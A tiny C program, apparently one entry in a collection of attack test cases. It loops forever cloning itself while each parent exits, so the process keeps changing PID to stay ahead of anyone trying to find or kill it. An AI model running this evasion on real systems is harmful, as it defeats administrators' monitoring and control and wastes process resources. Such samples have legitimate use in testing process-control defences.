#include "attack.h"
#include <sched.h>

int main(void)
{
	/* Each process leaves at once, a step ahead of whoever looks for it. */
	for (;;)
		if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) > 0)
			_exit(0);
}
